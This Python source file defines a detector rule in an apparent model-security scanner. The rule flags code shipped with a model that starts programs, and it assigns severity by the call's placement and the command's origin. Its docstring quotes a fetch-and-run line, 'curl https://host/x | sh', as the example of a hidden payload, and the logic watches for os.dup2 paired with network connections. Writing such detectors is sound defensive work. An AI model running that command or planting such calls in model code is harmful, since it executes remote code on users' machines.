"""Python code that comes with a model starts programs.

Modelling code, handlers and pipelines compute; they have no reason to start a shell. What
stands at the top of a module runs as soon as a loader imports it, before any weight
is read. Commands that only show something (``nvidia-smi``, ``git rev-parse``) are noted
and do not fail.

Before: ``os.system("curl https://host/x | sh")`` in ``modeling_x.py``.
After: the file without the call; read custom code before you set ``trust_remote_code``.

Sources: CWE-78; CWE-506; Hugging Face documentation on ``trust_remote_code``.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from modelkeep.core import Finding, Rule, Severity
from modelkeep.scan.interface import Context, Detector
from modelkeep.scan.python_flow import Event
from modelkeep.scan.python_grading import (
    PYTHON,
    acts,
    by_place,
    harmless_command,
    installs_package,
    plain_program,
    report,
)
from modelkeep.scan.python_policy import Act
from modelkeep.scan.python_scopes import Place
from modelkeep.scan.python_values import ASSEMBLED, DECODED, FILE, NETWORK, flat

RULE: Final = Rule(
    id="PYC001",
    name="python-starts-programs",
    summary="Code that comes with the model starts programs.",
    remedy="Do not load the model with its own code; read the file and remove the call.",
    topic="artifact.malicious_code",
    tags=("CWE-78", "CWE-506"),
)
_SHOWN: Final = 80
_TOLD: Final = frozenset({DECODED, NETWORK, ASSEMBLED, FILE})
"""Where a command comes from that is not its caller's."""


def run(context: Context) -> Iterator[Finding]:
    """Yield one finding per call that starts a program."""
    connects = any(acts(context, Act.CONNECT))
    for event in acts(context, Act.COMMAND):
        if event.name == "os.dup2" and not connects:
            continue
        command = flat(event.argument(0, "args"))[:_SHOWN]
        what = f"{event.name} would run {command!r}" if command else f"{event.name} is called"
        if not event.called:
            what = f"{event.name} is handed on to be called"
        yield report(context, RULE, event, _severity(event, context.format), what)


def _severity(event: Event, format_: str) -> Severity:
    if harmless_command(event):
        return Severity.MEDIUM
    if installs_package(event):
        if format_ == "python cells":  # what notebooks begin with
            return Severity.MEDIUM
        return by_place(event, early=Severity.HIGH, late=Severity.MEDIUM)
    command = event.argument(0, "args")
    if event.place is Place.HELPER and event.called and plain_program(event):
        return Severity.MEDIUM
    if not event.called or flat(command).strip() or _TOLD & command.labels:
        return by_place(event)
    return by_place(event, late=Severity.MEDIUM)  # what its caller wants


DETECTOR: Final = Detector(RULE, PYTHON, run)
